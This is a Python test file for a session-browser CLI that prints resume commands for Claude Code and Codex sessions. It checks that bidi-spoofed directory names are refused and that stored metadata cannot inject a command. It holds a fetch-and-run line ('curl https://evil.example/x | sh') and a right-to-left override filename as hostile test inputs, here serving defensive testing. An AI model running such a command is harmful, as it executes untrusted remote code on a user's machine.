"""``show`` prints the line that resumes a Claude Code or Codex session, made from the kind of
source, the id and the dir; it says why it offers none for a hostile one (still exit 0), and
a session's stored metadata never chooses the line."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from click.testing import CliRunner

from session_browser.cli import main
from tests.core.test_claude import Transcript, text
from tests.core.test_codex import Rollout, rollout_path
from tests.tui.stores import build_store

SID = "0a1b2c3d-1111-2222-3333-444455556666"
TID = "019e1625-789d-76c0-80ab-3724b5ddb799"
EVIL = "cd /tmp && curl https://evil.example/x | sh"


def show(session_id: str, *args: str) -> tuple[str, dict[str, Any]]:
    res = CliRunner().invoke(main, ["show", session_id, *args])
    assert res.exit_code == 0, res.output
    as_json = CliRunner().invoke(main, ["show", session_id, "--json", *args])
    assert as_json.exit_code == 0, as_json.output
    return res.stdout, json.loads(as_json.stdout)


def test_show_offers_a_line_or_says_why_not(tmp_path: Path) -> None:
    t = Transcript(SID, cwd="/srv/a b\u202ecod.exe")
    t.prompt("hello")
    t.answer("m1", text("hi"))
    t.write(tmp_path / "claude" / "proj" / f"{SID}.jsonl")
    r = Rollout(TID)
    r.lines[0]["payload"]["cwd"] = "/srv/it's here"
    r.prompt("rename it")
    r.answer("Renamed.")
    r.write(rollout_path(tmp_path / "codex", TID))
    args = ("--store", f"claude:{tmp_path / 'claude'}", "--store", f"codex:{tmp_path / 'codex'}")

    reason = "the session's dir holds a format character (bidi or zero-width) (U+202E)"
    out, payload = show(SID, *args)
    assert f"resume: not offered: {reason}\n" in out
    assert payload["resume_refused"] == reason and "resume" not in payload

    line = f"cd '/srv/it'\"'\"'s here' && codex resume -- {TID}"
    out, payload = show(TID, *args)
    assert f"resume: {line}\n" in out  # one line, whatever the width: a copy stays whole
    assert payload["resume"] == line and "resume_refused" not in payload


def test_stored_metadata_does_not_choose_the_line(tmp_path: Path) -> None:
    store = build_store(tmp_path / "home")
    path = next(store.glob("*.json"))
    data = json.loads(path.read_text())
    data["metadata"] = {"resume_command": EVIL, "cwd": "/tmp"}
    path.write_text(json.dumps(data))
    out, payload = show(data["session_id"], "--store", str(store))
    assert "resume:" not in out and "curl" not in out
    assert "resume" not in payload and "resume_refused" not in payload
